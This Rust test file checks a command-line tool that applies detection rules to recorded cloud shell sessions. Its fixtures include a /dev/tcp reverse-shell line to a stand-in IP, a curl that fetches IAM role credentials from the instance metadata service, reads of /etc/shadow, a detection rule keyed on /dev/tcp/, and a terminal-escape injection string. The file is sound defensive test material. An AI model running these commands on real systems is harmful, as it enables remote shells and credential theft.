//! Rules held against sessions, from the command line.

use std::fs;
use std::path::Path;

use serde_json::json;

use crate::home::Home;

/// A session with something for every kind of record, and one in which only ordinary work was done.
fn home() -> Home {
    let home = Home::new();
    let session = |id: &str, lines: &[&str]| {
        let events: Vec<String> = lines
            .iter()
            .enumerate()
            .map(|(n, line)| {
                json!({
                    "eventVersion": "1.0", "eventTime": format!("2026-03-01T08:00:{n:02}Z"), "awsRegion": "eu-west-1",
                    "target": {"id": "i-0aaaaaaaaaaaaaaa1"}, "runAsUser": "ec2-user", "sessionId": id,
                    "userIdentity": {"arn": "arn:aws:iam::111122223333:user/mallory"},
                    "sessionData": [format!("sh-5.2$ {line}")],
                })
                .to_string()
            })
            .collect();
        home.write(&format!("logs/{id}.jsonl"), events.join("\n").as_bytes());
    };
    session(
        "mallory-0e34861185201706f",
        &[
            "sudo su -",
            "stty -echo",
            "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web | tee /tmp/x",
            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
            "mysql -uroot -phunter2-x shop",
            "exit",
        ],
    );
    session("mallory-0e34861185201706e", &["id", "ls -l /etc/shadow", "systemctl status nginx", "exit"]);
    assert_eq!(home.run(&["index", "logs"]).code, Some(0));
    home
}

const RULE: &str = "\
title: Reverse shell
id: 11111111-2222-3333-4444-555555555555
author: Kim, Robin
license: DRL 1.1
logsource: {product: linux}
tags: [attack.execution, attack.t1059.004]
detection:
  words: [/dev/tcp/]
  condition: words
level: critical
";

#[test]
fn what_is_found_says_why_and_whose_rule_it_is() {
    let home = home();
    let found = home.run(&["detect"]);
    assert_eq!(found.code, Some(0), "{found}");
    assert_eq!(
        found.column("title"),
        [
            "Shell of root right after the session began",
            "Terminal echo switched off",
            "Credentials of the machine's role fetched",
            "Secret typed on a command line",
        ]
    );
    assert_eq!(found.column("seq"), ["0", "1", "2", "4"]);
    assert!(found.column("author").iter().all(|author| author == "whoran"));
    let row = &found.rows()[2];
    assert_eq!(row["techniques"], json!(["T1552.005"]));
    assert_eq!(row["why"][0]["field"], "CommandLine");
    assert!(row["evidence"][0]["log"].as_str().unwrap().ends_with("mallory-0e34861185201706f.jsonl"));
    assert!(!found.stdout.contains("hunter2"), "secrets stay masked");
    assert_eq!(home.run(&["audit"]).column("verb")[0], "detect", "it is on the record");
}

#[test]
fn rules_of_others_show_their_author_in_every_form() {
    let home = home();
    home.write("rules/deep/er/r.yml", RULE.as_bytes());
    for format in ["table", "jsonl", "json", "csv"] {
        let found = home.run(&["detect", "--rules", "rules", "--no-built-in", "--format", format]);
        assert!(found.stdout.contains("Kim, Robin") && found.stdout.contains("DRL 1.1"), "{found}");
        assert!(found.stdout.contains("contains /dev/tcp/"), "{found}");
    }
    let file = home.path("found.csv");
    assert_eq!(home.run(&["detect", "--rules", "rules", "-o", file.to_str().unwrap()]).code, Some(0));
    assert!(fs::read_to_string(file).unwrap().contains("\"Kim, Robin\""));
}

#[test]
fn a_level_chooses_and_ends_with_six() {
    let home = home();
    home.write("r.yml", RULE.as_bytes());
    let high = home.run(&["detect", "--min-level", "high", "--fail-on", "critical"]);
    assert_eq!((high.code, high.rows().len()), (Some(0), 2), "{high}");
    let critical = home.run(&["detect", "--rules", "r.yml", "--min-level", "high", "--fail-on", "critical"]);
    assert_eq!((critical.code, critical.rows().len()), (Some(6), 3), "{critical}");
    assert_eq!(home.run(&["detect", "--min-level", "grave"]).code, Some(2));
}

#[test]
fn a_query_chooses_commands() {
    let home = home();
    let found = home.run(&["detect", "program:stty"]);
    assert_eq!(found.column("title"), ["Terminal echo switched off"]);
    assert_eq!(home.run(&["detect", "program:ls"]).rows().len(), 0);
    assert_eq!(home.run(&["detect", "nofield:x"]).code, Some(2));
}

#[test]
fn rules_that_cannot_be_read_or_never_fire_are_told() {
    let home = home();
    home.write("rules/good.yml", RULE.as_bytes());
    home.write("rules/bad.yml", b"title: [\n");
    home.write(
        "rules/auth.yml",
        RULE.replace("{product: linux}", "{product: linux, service: auth}").as_bytes(),
    );
    home.write("rules/note.txt", b"no rule");
    let list = home.run(&["detect", "--rules", "rules", "--no-built-in", "--list"]);
    assert_eq!(list.code, Some(0));
    assert_eq!(list.column("never"), ["its log source is another one: product linux, service auth", "-"]);
    assert!(list.stderr.contains("left out: rules/bad.yml: ") && list.stderr.contains("line 2"), "{list}");
    assert!(list.stderr.contains("2 rules loaded, of which 1 can fire here; 1 could not be read"), "{list}");
    let found = home.run(&["detect", "--rules", "rules", "--no-built-in"]);
    assert_eq!(found.rows().len(), 1, "{found}");
    assert_eq!(home.run(&["detect", "--rules", "nowhere"]).code, Some(2));
}

#[test]
fn hostile_rules_and_commands_act_on_nothing() {
    let home = home();
    let title = "\"\\e]0;pwned\\a\\u202e=1+1\"";
    home.write("r.yml", RULE.replace("Reverse shell", title).as_bytes());
    for format in ["table", "jsonl", "csv"] {
        let found = home.run(&["detect", "--rules", "r.yml", "--no-built-in", "--format", format]);
        assert!(found.stdout.contains("pwned"), "{found}");
        assert!(!found.stdout.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{format}");
    }
}

/// Of these nothing can be told without reading all there is, and they never fire.
const BLIND: &str = "\
title: Blind
logsource: {product: whoran, category: command}
detection: {a: {output: \u{e9}\u{e9}\u{e9}}, condition: a}
---
title: Blind
logsource: {product: whoran, category: session}
detection: {a: {message: \u{e9}\u{e9}\u{e9}}, condition: a}
";

/// Some are torn by quotes, some come early, some are of PowerShell; what is odd about sessions is told with its command.
#[test]
fn what_is_chosen_before_it_is_read_misses_nothing() {
    let home = home();
    let spec = whoran_testkit::Spec { seed: 5, bytes: 2 << 20, cases: true };
    whoran_testkit::generate(&spec, &home.path("made")).unwrap();
    home.write(
        "logs/mallory-0e34861185201706d.log",
        b"sh-5.2$ cu'r'l -s http://169.254.169.254/latest/meta-data/iam/security-credentials/x\nsh-5.2$ s\\tty -echo\n",
    );
    assert_eq!(home.run(&["index", "logs", "made"]).code, Some(0));
    home.write("blind.yml", BLIND.as_bytes());
    let chosen = home.run(&["detect", "--format", "jsonl"]);
    let all = home.run(&["detect", "--format", "jsonl", "--rules", "blind.yml"]);
    assert!(chosen.rows().len() > 20, "{}", chosen.stdout);
    assert_eq!(chosen.stdout, all.stdout);
    assert_eq!(chosen.stdout.matches("\"session_id\":\"mallory-0e34861185201706d\"").count(), 2);
}

/// Recorded sessions of ordinary work: nothing of ours is high there, and what is planted in them is found.
#[test]
fn ordinary_work_is_nothing_to_be_alarmed_about() {
    let home = Home::new();
    let corpus = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../testdata/corpus");
    assert_eq!(
        home.run(&["index", corpus.to_str().unwrap()]).code,
        Some(3),
        "some of it is damaged on purpose"
    );
    let found = home.run(&["detect"]);
    let told: Vec<String> = found
        .rows()
        .iter()
        .map(|row| {
            format!(
                "{} {} {}",
                row["level"].as_str().unwrap(),
                row["title"].as_str().unwrap(),
                row["command"]
            )
        })
        .collect();
    assert_eq!(
        told,
        [
            "medium File with credentials read or copied \"tail -1 /etc/shadow\"",
            "medium File with credentials read or copied \"tail -1 /etc/shadow\"",
            "medium Secret typed on a command line \"export AWS_SECRET_ACCESS_KEY=[masked:aws-secret-access-key]\"",
            "medium Secret typed on a command line \"mysql -h 127.0.0.1 -P 1 -u app -p[masked:password] -e 'select 1'\"",
            "medium Secret typed on a command line \"curl -s -m 1 -H 'Authorization: Bearer [masked:authorization]' http://127.0.0.1:1/v1/me\"",
            "medium File with credentials read or copied \"cat /etc/shadow | head -1\"",
            "medium File with credentials read or copied \"sudo cat /etc/shadow | head -1\"",
        ]
    );
}

/// All that is planted is found, each by the rule that is for it, and nothing else.
#[test]
fn everything_planted_is_found() {
    let home = Home::new();
    let planted = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../testdata/planted");
    let indexed = home.run(&[
        "index",
        planted.join("logs").to_str().unwrap(),
        planted.join("context").to_str().unwrap(),
    ]);
    assert_eq!(indexed.code, Some(0), "{indexed}");
    let found = home.run(&["detect"]);
    let told: Vec<String> = found
        .rows()
        .iter()
        .map(|row| {
            let place = row["seq"].as_u64().map(|seq| format!("#{seq}")).unwrap_or_default();
            let text = |key: &str| row[key].as_str().unwrap().to_owned();
            assert!(!row["evidence"].as_array().unwrap().is_empty(), "what proves it: {row}");
            format!("{}{place}\t{}\t{}", text("session_id"), text("level"), text("title"))
        })
        .collect();
    let due = fs::read_to_string(planted.join("expected.tsv")).unwrap();
    assert_eq!(told.join("\n") + "\n", due);
    let rules = home.run(&["detect", "--list"]).column("title");
    assert!(
        rules.iter().all(|title| due.contains(title.as_str())),
        "every rule has something planted for it"
    );
}

/// Rules that the environment points to, such as SigmaHQ's; none of theirs are kept here.
#[test]
fn a_set_of_rules_that_is_pointed_to_loads_whole() {
    let Some(rules) = std::env::var_os("WHORAN_SIGMA_RULES") else { return };
    let home = home();
    let list = home.run(&["detect", "--rules", rules.to_str().unwrap(), "--no-built-in", "--list"]);
    assert_eq!(list.code, Some(0), "{list}");
    assert!(list.stderr.contains("; 0 could not be read"), "{}", list.stderr);
    let rows = list.rows();
    assert!(!rows.is_empty() && rows.iter().any(|row| row["never"].is_null()));
    assert_eq!(home.run(&["detect", "--rules", rules.to_str().unwrap()]).code, Some(0));
}
